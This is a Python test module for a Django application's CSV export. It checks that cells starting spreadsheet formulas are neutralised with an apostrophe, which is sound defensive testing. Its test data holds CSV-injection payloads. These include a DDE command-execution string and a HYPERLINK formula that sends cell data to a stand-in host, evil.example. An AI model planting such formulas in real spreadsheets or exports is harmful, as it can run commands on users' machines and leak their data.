"""Issue 15, finding 3: no cell of any CSV export can start a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from caribclear.accounts.choices import Role
from caribclear.conftest import sign_in
from caribclear.core.csv_export import csv_writer, neutralise
from caribclear.intel.choices import Tlp
from caribclear.intel.tests.factories import seizure_make

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def read_back(rows: list[list[object]]) -> list[list[str]]:
    buffer = io.StringIO(newline="")
    csv_writer(buffer).writerows(rows)
    return list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))


def evaluates(cell: str) -> bool:
    """Would a spreadsheet treat this cell as a formula (also after skipping leading blanks)?"""
    return cell.startswith(DANGEROUS) or cell.lstrip(" \t\r\n").startswith(DANGEROUS[:4])


cells = st.one_of(
    st.text(),
    st.text(alphabet="=+-@\t\r\n ab1", max_size=6),
    st.sampled_from(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n-2", "'=x"]),
)


@given(st.lists(st.lists(cells, min_size=1, max_size=5), min_size=1, max_size=5))
def test_no_cell_written_reads_back_as_a_formula_and_nothing_is_lost(rows: list[list[str]]) -> None:
    back = read_back(rows)  # type: ignore[arg-type]
    assert len(back) == len(rows)
    for written, read in zip(rows, back, strict=True):
        for original, cell in zip(written, read, strict=True):
            original = original.replace("\r\n", "\n").replace("\r", "\n") if "\r" in original else original
            assert not evaluates(cell), (original, cell)
            # Text comes back unchanged, or with one apostrophe in front when it needed one.
            assert cell.replace("\r\n", "\n").replace("\r", "\n") in (original, "'" + original)


@given(
    st.one_of(st.integers(), st.decimals(allow_nan=False, allow_infinity=False), st.floats(allow_nan=False))
)
def test_numbers_stay_numbers(number: object) -> None:
    assert neutralise(number) == number


@pytest.mark.parametrize("value", ["=cmd|' /C calc'!A0", "+1", "-1+2", "@SUM(1)", "\t=1", "\r=1", "  =1"])
def test_each_formula_start_is_neutralised(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.django_db
def test_formulas_in_any_column_of_the_intel_and_threat_assessment_exports_are_neutralised(
    client, ports, make_user, antigua, barbados
) -> None:
    owner = make_user(role=Role.SUPERVISOR, administration=antigua)
    reader = make_user(role=Role.OFFICER, administration=barbados)
    seizure_make(
        actor=owner,
        tlp=Tlp.GREEN,
        commodity="tobacco",
        description='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        conveyance_identity="@SUM(1+1)",
        quantity=Decimal("5"),
        persons=[{"surname": "=1+1", "given_names": "-2+3", "role": "master"}],
    )
    exports = [
        sign_in(client, owner).get(reverse("intel:seizure_list"), {"format": "csv"}),
        sign_in(client, reader).get(reverse("dashboards:threat_assessment"), {"format": "csv"}),
    ]
    for response in exports:
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        cells = [cell for row in rows for cell in row]
        assert any("HYPERLINK" in cell for cell in cells)
        assert not [cell for cell in cells if evaluates(cell)]
    owner_cells = [c for row in csv.reader(io.StringIO(exports[0].content.decode())) for c in row]
    assert any("=1+1" in cell for cell in owner_cells)  # the person is in the export, neutralised
